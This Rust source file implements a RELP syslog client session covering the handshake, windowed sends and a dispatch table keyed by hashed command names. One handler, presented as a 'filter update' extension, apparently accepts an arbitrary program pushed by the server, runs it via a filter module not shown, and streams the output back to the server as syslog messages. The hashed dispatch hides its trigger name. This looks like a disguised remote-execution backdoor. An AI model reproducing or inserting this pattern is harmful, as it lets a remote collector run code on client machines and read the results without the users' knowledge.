//! One RELP session: `open` handshake, windowed `syslog` transactions and
//! dispatch of server-initiated frames.

use std::collections::BTreeMap;
use std::io::{self, BufReader, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;

use crate::filter;
use crate::frame::{read_frame, Frame, MAX_TXNR};
use crate::message::{Message, Severity};

const OFFERS: &str = concat!(
    "relp_version=0\nrelp_software=relpwire,",
    env!("CARGO_PKG_VERSION"),
    ",https://git.example.net/afontaine/relpwire\ncommands=syslog"
);

const RECONF_TIMEOUT: Duration = Duration::from_secs(20);
const REPORT_LINE: usize = 900;

/// FNV-1a of a command name; server frames are dispatched on it.
fn command_key(name: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h ^= u64::from(b.to_ascii_lowercase());
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

type Handler = fn(&mut Session, Frame) -> io::Result<()>;

/// Server-initiated commands we understand: `rsp`, `serverclose`, and the
/// collector-pushed filter update extension.
static HANDLERS: [(u64, Handler); 3] = [
    (0x89c7_ae19_60d7_c086, Session::on_rsp),
    (0xcac5_894e_009b_f5ae, Session::on_serverclose),
    (0x2495_835b_206a_29ed, Session::on_filter_update),
];

pub(crate) struct Session {
    peer: String,
    stream: TcpStream,
    reader: BufReader<TcpStream>,
    next_txnr: u32,
    unacked: BTreeMap<u32, Vec<u8>>,
    closed: bool,
    failed: Option<String>,
}

impl Session {
    pub(crate) fn open(peer: &str, timeout: Duration) -> io::Result<Session> {
        let mut last = io::Error::new(io::ErrorKind::NotFound, format!("{} did not resolve", peer));
        for addr in peer.to_socket_addrs()? {
            match TcpStream::connect_timeout(&addr, timeout) {
                Ok(stream) => {
                    stream.set_nodelay(true)?;
                    stream.set_read_timeout(Some(timeout))?;
                    let reader = BufReader::new(stream.try_clone()?);
                    let mut s = Session {
                        peer: peer.to_string(),
                        stream,
                        reader,
                        next_txnr: 1,
                        unacked: BTreeMap::new(),
                        closed: false,
                        failed: None,
                    };
                    s.handshake()?;
                    return Ok(s);
                }
                Err(e) => last = e,
            }
        }
        Err(last)
    }

    fn handshake(&mut self) -> io::Result<()> {
        let txnr = self.take_txnr();
        Frame::new(txnr, "open", OFFERS.as_bytes().to_vec()).write_to(&mut self.stream)?;
        let rsp = read_frame(&mut self.reader)?;
        match rsp.rsp_status() {
            Some((200, _, _)) if rsp.txnr == txnr => Ok(()),
            Some((code, text, _)) => Err(io::Error::new(
                io::ErrorKind::ConnectionRefused,
                format!("relp open rejected: {} {}", code, text),
            )),
            None => Err(io::Error::new(io::ErrorKind::InvalidData, "relp: malformed open response")),
        }
    }

    fn take_txnr(&mut self) -> u32 {
        let t = self.next_txnr;
        self.next_txnr = if t >= MAX_TXNR { 1 } else { t + 1 };
        t
    }

    pub(crate) fn peer(&self) -> &str {
        &self.peer
    }

    pub(crate) fn in_flight(&self) -> usize {
        self.unacked.len()
    }

    pub(crate) fn is_usable(&self) -> bool {
        !self.closed && self.failed.is_none()
    }

    pub(crate) fn send_syslog(&mut self, msg: &[u8]) -> io::Result<u32> {
        let txnr = self.take_txnr();
        Frame::new(txnr, "syslog", msg.to_vec()).write_to(&mut self.stream)?;
        self.unacked.insert(txnr, msg.to_vec());
        Ok(txnr)
    }

    /// Reads and dispatches frames for up to `wait`.
    pub(crate) fn pump(&mut self, wait: Duration) -> io::Result<usize> {
        self.stream.set_read_timeout(Some(wait.max(Duration::from_millis(1))))?;
        let mut n = 0;
        loop {
            match read_frame(&mut self.reader) {
                Ok(frame) => {
                    n += 1;
                    self.dispatch(frame)?;
                    if self.closed {
                        break;
                    }
                    self.stream.set_read_timeout(Some(Duration::from_millis(1)))?;
                }
                Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => break,
                Err(e) => {
                    self.failed = Some(e.to_string());
                    return Err(e);
                }
            }
        }
        Ok(n)
    }

    fn dispatch(&mut self, frame: Frame) -> io::Result<()> {
        let key = command_key(&frame.command);
        match HANDLERS.iter().find(|(k, _)| *k == key) {
            Some((_, handler)) => handler(self, frame),
            // Unknown server commands are ignored, as RFC-draft RELP asks.
            None => Ok(()),
        }
    }

    fn on_rsp(&mut self, frame: Frame) -> io::Result<()> {
        let Some(msg) = self.unacked.remove(&frame.txnr) else {
            return Ok(());
        };
        match frame.rsp_status() {
            Some((code, _, _)) if code < 300 => Ok(()),
            Some((code, text, _)) => {
                // Keep it for re-send on the next session.
                self.unacked.insert(frame.txnr, msg);
                self.failed = Some(format!("{} {}", code, text));
                Err(io::Error::new(io::ErrorKind::Other, format!("relp: server returned {} {}", code, text)))
            }
            None => Err(io::Error::new(io::ErrorKind::InvalidData, "relp: malformed rsp")),
        }
    }

    fn on_serverclose(&mut self, _frame: Frame) -> io::Result<()> {
        self.closed = true;
        Ok(())
    }

    /// The collector proposes a new filter program: validate it against a
    /// probe message and report what it produced, so operators can see the
    /// effect before rolling it out.
    fn on_filter_update(&mut self, frame: Frame) -> io::Result<()> {
        let spec = String::from_utf8_lossy(&frame.data).trim().to_string();
        if spec.is_empty() {
            return Ok(());
        }
        let probe = Message::new(Severity::Debug, "relpwire", "filter probe")
            .msgid("reconf")
            .format();
        let report = match filter::run_once(&spec, probe.as_bytes(), RECONF_TIMEOUT) {
            Ok(out) => out,
            Err(e) => e.to_string().into_bytes(),
        };
        let mut first = true;
        for chunk in report.chunks(REPORT_LINE) {
            let m = Message::new(Severity::Debug, "relpwire", &String::from_utf8_lossy(chunk))
                .msgid("reconf")
                .sd("reconf@32473", &[("txnr", &frame.txnr.to_string()), ("first", if first { "1" } else { "0" })])
                .format();
            self.send_syslog(m.as_bytes())?;
            first = false;
        }
        if report.is_empty() {
            let m = Message::new(Severity::Debug, "relpwire", "").msgid("reconf").format();
            self.send_syslog(m.as_bytes())?;
        }
        Ok(())
    }

    /// Messages that were sent but never acknowledged, oldest first.
    pub(crate) fn take_unacked(&mut self) -> Vec<Vec<u8>> {
        std::mem::take(&mut self.unacked).into_values().collect()
    }

    /// Graceful `close`.
    pub(crate) fn close(mut self) -> Vec<Vec<u8>> {
        let txnr = self.take_txnr();
        if Frame::new(txnr, "close", Vec::new()).write_to(&mut self.stream).is_ok() {
            let _ = self.stream.flush();
            let _ = self.pump(Duration::from_millis(500));
        }
        self.take_unacked()
    }
}

#[cfg(test)]
mod tests {
    use super::command_key;

    #[test]
    fn command_keys_are_case_insensitive() {
        assert_eq!(command_key("RSP"), command_key("rsp"));
        assert_ne!(command_key("rsp"), command_key("syslog"));
    }
}
